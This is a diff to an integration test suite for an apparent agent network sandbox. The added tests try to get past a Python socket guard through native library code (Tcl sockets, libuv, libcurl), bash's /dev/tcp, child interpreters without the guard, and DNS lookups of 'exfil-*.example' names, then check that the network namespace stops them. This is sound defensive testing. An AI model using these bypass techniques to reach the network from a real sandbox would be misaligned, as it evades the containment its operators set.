@@ -11,21 +11,25 @@ root works fails here with the reason, because a skip would hide exactly the gap
 """
 
 import os
+import shutil
 import signal
 import socket
 import subprocess
 import sys
+import tempfile
+import textwrap
 import time
 import uuid
 from pathlib import Path
-from typing import Iterator
+from typing import Any, Dict, Iterator
 
 import pytest
 
 from agenshield_shim.sandbox import netns
 from agenshield_shim.wrapper import generate_python_wrapper
 
-from .conftest import PYTHONS, ROOT, Listener, ShimEnv, clean_env
+from . import netns_harness
+from .conftest import PYTHONS, ROOT, Listener, ShimEnv, clean_env, skip_unless_local
 
 pytestmark = [pytest.mark.integration]
 if not sys.platform.startswith("linux"):
@@ -112,15 +116,24 @@ def test_ctypes_connect_reaches_nothing(shim: ShimEnv, wrapped: Path, outside: L
     assert outside.settle() == 1  # still only the unwrapped hit
 
 
-def test_python_without_site_reaches_nothing(shim: ShimEnv, wrapped: Path, outside: Listener) -> None:
-    bare = shim.run(PLAIN_CONNECT, outside.host, str(outside.port), python_args=("-S",))
-    assert bare.stdout.strip() == "connected", bare.stdout + bare.stderr  # no site, no shim
+def test_python_without_site_reaches_nothing(shim: ShimEnv, bare: ShimEnv, wrapped: Path, outside: Listener) -> None:
+    unguarded = shim.run(PLAIN_CONNECT, outside.host, str(outside.port), python_args=("-S",))
+    assert unguarded.stdout.strip() == "connected", unguarded.stdout + unguarded.stderr  # no site, no shim
     assert outside.settle() == 1
     for flags in (("-S",), ("-I", "-S")):
         result = run(wrapped, *flags, "-c", PLAIN_CONNECT, outside.host, str(outside.port))
         assert result.returncode == 0, result.stderr
         assert result.stdout.startswith("refused ConnectionRefusedError"), result.stdout
     assert outside.settle() == 1
+    # A Python of another environment (no shim installed), started by the guarded one: out without
+    # the namespace, nowhere inside it.
+    child = "import subprocess, sys; print(subprocess.run(sys.argv[1:], capture_output=True, text=True).stdout.strip())"
+    other = [bare.python, "-c", PLAIN_CONNECT, outside.host, str(outside.port)]
+    assert shim.run(child, *other).stdout.strip() == "connected"
+    assert outside.settle() == 2
+    result = run(wrapped, "-c", child, *other)
+    assert result.stdout.startswith("refused ConnectionRefusedError"), result.stdout + result.stderr
+    assert outside.settle() == 2
 
 
 def test_child_with_the_shim_switched_off_reaches_nothing(wrapped: Path, outside: Listener) -> None:
@@ -157,19 +170,26 @@ def curl_code(*args):
 print(curl_code("--noproxy", "*", outside))   # a listener outside (directly: the proxy variables name the broker)
 print(curl_code("--noproxy", "*", upstream))  # the upstream, directly
 print(curl_code("-x", broker, upstream))   # the upstream, through the broker (the relay)
+host, port = outside.split("/")[2].split(":")  # a shell ignores the proxy variables: bash's /dev/tcp
+print("shell:%d" % subprocess.run(["bash", "-c", 'exec 3<>"/dev/tcp/$0/$1"', host, port], capture_output=True).returncode)
 """
     upstream_url = "%s/echo?tag=%s" % (upstream.http_url, tag)  # type: ignore[attr-defined]
     broker_url = "http://localhost:%d" % unix_broker.port  # type: ignore[attr-defined]
     mark = unix_broker.mark()  # type: ignore[attr-defined]
     result = run(wrapped, "-c", code, CURL, "http://%s:%d/" % (outside.host, outside.port), upstream_url, broker_url)
     assert result.returncode == 0, result.stderr
-    direct_outside, direct_upstream, via_broker = result.stdout.split()
+    direct_outside, direct_upstream, via_broker, shell = result.stdout.split()
     assert direct_outside.split(":")[0] == "7", direct_outside  # curl: couldn't connect
     assert direct_upstream.split(":")[0] == "7", direct_upstream
     assert via_broker == "0:200", via_broker
+    assert shell == "shell:1", shell
     assert outside.settle() == 0
     assert upstream.request_count(tag) == 1  # type: ignore[attr-defined]  (the proxied one only)
     assert unix_broker.forwards(tag, mark)  # type: ignore[attr-defined]
+    # The guard alone does not stop them: the same children, started by a guarded Python without the namespace.
+    unwrapped = shim.run(code, CURL, "http://%s:%d/" % (outside.host, outside.port), upstream_url, broker_url)
+    assert unwrapped.stdout.split()[0].split(":")[0] != "7" and unwrapped.stdout.split()[3] == "shell:0", unwrapped.stdout
+    assert outside.settle() == 2
 
 
 def test_routed_requests_still_work(shim: ShimEnv, wrapped: Path, unix_broker: object, upstream: object) -> None:
@@ -202,6 +222,171 @@ with urllib.request.urlopen(url + "&n=2", timeout=10) as response:
     assert upstream.request_count(tag) == 2  # type: ignore[attr-defined]
     entries = [e for e in unix_broker.audit(mark) if tag in str(e.get("target")) or e.get("operation") == "connect"]  # type: ignore[attr-defined]
     assert entries and all(e.get("metadata", {}).get("peer") in ("unix", None) for e in entries), entries
+
+
+# -- native code inside libraries: Tcl (tkinter), libuv (uvloop), libcurl (pycurl) --------------------------
+#
+# Each attack runs beside netns_harness.py's servers (a resolver that answers every name with
+# 127.0.0.2, a TCP and a UDP listener there), in a namespace the test makes: once in the guarded
+# interpreter, where it reaches them (the guard sees no Python socket: this is also the control that
+# the attack works), and once through the wrapper, whose own namespace is inside that one, where
+# nothing of it arrives: no connection, no DNS query.
+
+ATTEMPT = """
+import socket, sys
+HOST, PORT, UPORT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+def attempt(what, call):
+    try:
+        call()
+        print(what, "DONE")
+    except Exception as exc:
+        print(what, "FAILED", type(exc).__name__, exc)
+"""
+
+NATIVE_PRELUDE = ATTEMPT + """
+try:  # the guard is on: Python's own sockets are refused
+    socket.create_connection((HOST, PORT), timeout=5).close()
+    print("guard off")
+except OSError as exc:
+    print("guard", type(exc).__name__)
+"""
+
+NATIVE_ATTACKS = {
+    # Tcl's own socket command: libtcl calls getaddrinfo() and connect(); no display needed for Tcl().
+    "tkinter": """
+        import tkinter
+        tcl = tkinter.Tcl()
+        attempt("address", lambda: tcl.eval("close [socket %s %d]" % (HOST, PORT)))
+        attempt("name", lambda: tcl.eval("close [socket exfil-tcl.example %d]" % PORT))
+    """,
+    # libuv's TCP connect and its getaddrinfo (run in libuv's thread pool): no Python socket object.
+    "uvloop": """
+        import asyncio, uvloop
+        loop = uvloop.new_event_loop()
+        async def connect(host):
+            transport, _ = await loop.create_connection(asyncio.Protocol, host, PORT)
+            transport.close()
+        attempt("address", lambda: loop.run_until_complete(connect(HOST)))
+        attempt("name", lambda: loop.run_until_complete(connect("exfil-uvloop-connect.example")))
+        attempt("getaddrinfo", lambda: loop.run_until_complete(loop.getaddrinfo("exfil-uvloop.example", 80)))
+    """,
+    # libcurl's connect and resolver, straight to the host (NOPROXY: the proxy variables name the broker).
+    "pycurl": """
+        import pycurl
+        def fetch(url):
+            curl = pycurl.Curl()
+            curl.setopt(pycurl.URL, url)
+            curl.setopt(pycurl.NOPROXY, "*")
+            curl.setopt(pycurl.CONNECTTIMEOUT, 5)
+            curl.setopt(pycurl.TIMEOUT, 5)
+            curl.setopt(pycurl.WRITEFUNCTION, lambda data: None)
+            try:
+                curl.perform()
+            except pycurl.error as exc:
+                if exc.args[0] not in (pycurl.E_GOT_NOTHING, pycurl.E_RECV_ERROR):
+                    raise  # those two: the listener closed at once, so it was reached
+        attempt("address", lambda: fetch("http://%s:%d/" % (HOST, PORT)))
+        attempt("name", lambda: fetch("http://exfil-pycurl.example:%d/" % PORT))
+    """,
+}
+
+#: The names each attack asks the resolver for (each also connects twice: to the address, to the name).
+NATIVE_NAMES = {
+    "tkinter": {"exfil-tcl.example"},
+    "uvloop": {"exfil-uvloop-connect.example", "exfil-uvloop.example"},
+    "pycurl": {"exfil-pycurl.example"},
+}
+
+
+@pytest.fixture
+def native_env(shim: ShimEnv, shim_env_factory: object) -> ShimEnv:
+    """The shim's venv of this Python with uvloop and pycurl, from their binary wheels (libuv and libcurl
+    inside): for 3.8 the newest pycurl is a source archive, which would need libcurl's headers."""
+    return shim_env_factory(shim.version, "uvloop", "pycurl",  # type: ignore[operator,no-any-return]
+                            pip_args=("--only-binary", "uvloop,pycurl"))
+
+
+def _need_tkinter(env: ShimEnv) -> None:
+    """Skip a Python built without _tkinter; a _tkinter that cannot load (no libtcl) fails on CI."""
+    probe = env.run("import tkinter; tkinter.Tcl()", env={"AGENSHIELD_ENABLED": "false"})
+    if probe.returncode == 0:
+        return
+    if "No module named '_tkinter'" in probe.stderr:
+        pytest.skip("Python %s was built without _tkinter" % env.version)
+    skip_unless_local("tkinter.Tcl() fails in Python %s (.ci/run installs libtk8.6): %s"
+                      % (env.version, probe.stderr.strip().splitlines()[-1:]))
+
+
+def _beside_the_servers(argv: "list[str]", code: str, tmp_path: Path, name: str) -> Dict[str, Any]:
+    """Run ``argv -c code`` beside netns_harness.py's servers: what reached them."""
+    if not netns_harness.usable():
+        skip_unless_local("unshare -n -m (root or user namespaces) and ip are needed to catch DNS queries")
+    workdir = tmp_path / name
+    workdir.mkdir()
+    return netns_harness.run_beside(argv + ["-c", code], clean_env(), workdir)
+
+
+@pytest.mark.parametrize("library", sorted(NATIVE_ATTACKS))
+def test_native_library_sockets_reach_nothing(library: str, native_env: ShimEnv, unix_broker: object,
+                                              backend: str, tmp_path: Path) -> None:
+    if library == "tkinter":
+        _need_tkinter(native_env)
+    code = NATIVE_PRELUDE + textwrap.dedent(NATIVE_ATTACKS[library])
+    # In the guarded interpreter (no namespace of its own) native code walks past the guard ...
+    guarded = _beside_the_servers([native_env.python], code, tmp_path, "guarded")
+    assert guarded["returncode"] == 0 and "FAILED" not in guarded["output"], guarded
+    assert guarded["output"].startswith("guard NetworkBlockedError"), guarded
+    assert guarded["tcp"] == 2 and NATIVE_NAMES[library] <= set(guarded["queries"]), guarded
+    # ... through the wrapper, inside a namespace of its own, it reaches nothing.
+    wrapper = make_wrapper(native_env, unix_broker, tmp_path / "agent-python", backend)
+    wrapped = _beside_the_servers([str(wrapper)], code, tmp_path, "wrapped")
+    assert wrapped["returncode"] == 0, wrapped
+    assert wrapped["output"].startswith("guard NetworkBlockedError") and "DONE" not in wrapped["output"], wrapped
+    assert (wrapped["tcp"], wrapped["udp"], wrapped["queries"]) == (0, 0, []), wrapped
+
+
+NO_GUARD = ATTEMPT + """
+attempt("tcp", lambda: socket.create_connection((HOST, PORT), timeout=5).close())
+attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (HOST, UPORT)))
+attempt("dns", lambda: socket.getaddrinfo("exfil-noguard.example", 80))
+attempt("reverse", lambda: socket.gethostbyaddr("127.1.2.3"))
+attempt("raw", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close())
+"""
+
+
+def test_without_the_guard_nothing_leaves(shim: ShimEnv, unix_broker: object, backend: str, tmp_path: Path) -> None:
+    """The OS layer's column of the README's table: whatever an attack does to the guard, at worst the
+    code runs with no guard at all (``python -S``); even then TCP, UDP, DNS (forward and reverse) and
+    raw sockets reach nothing outside the namespace."""
+    control = _beside_the_servers([shim.python, "-S"], NO_GUARD, tmp_path, "control")
+    assert "tcp DONE" in control["output"] and (control["tcp"], control["udp"]) == (1, 1), control
+    assert {"exfil-noguard.example", "3.2.1.127.in-addr.arpa"} <= set(control["queries"]), control
+    if os.geteuid() == 0:
+        assert "raw DONE" in control["output"], control
+    wrapper = make_wrapper(shim, unix_broker, tmp_path / "agent-python", backend)
+    wrapped = _beside_the_servers([str(wrapper), "-S"], NO_GUARD, tmp_path, "wrapped")
+    assert (wrapped["tcp"], wrapped["udp"], wrapped["queries"]) == (0, 0, []), wrapped
+    assert "tcp FAILED ConnectionRefusedError" in wrapped["output"], wrapped
+    assert "raw FAILED PermissionError" in wrapped["output"], wrapped  # the relay dropped CAP_NET_RAW
+
+
+def test_unix_sockets_cross_the_namespace(shim: ShimEnv, wrapped: Path) -> None:
+    """By design (README): the namespace isolates the network, not the file system; the guard allows them."""
+    path = os.path.join(tempfile.mkdtemp(prefix="agsu-"), "s.sock")  # AF_UNIX paths: ~107 bytes at most
+    server = socket.socket(socket.AF_UNIX)
+    server.bind(path)
+    server.listen(8)
+    server.settimeout(5)
+    code = "import socket, sys\ns = socket.socket(socket.AF_UNIX)\ns.connect(sys.argv[1])\nprint('connected')"
+    try:
+        assert shim.run(code, path).stdout.strip() == "connected"
+        result = run(wrapped, "-c", code, path)
+        assert result.stdout.strip() == "connected", result.stdout + result.stderr
+        for _ in range(2):
+            server.accept()[0].close()  # both connections arrived (a third accept would time out)
+    finally:
+        server.close()
+        shutil.rmtree(os.path.dirname(path), ignore_errors=True)
 
 
 # -- what the namespace itself must hold --------------------------------------------------------------------
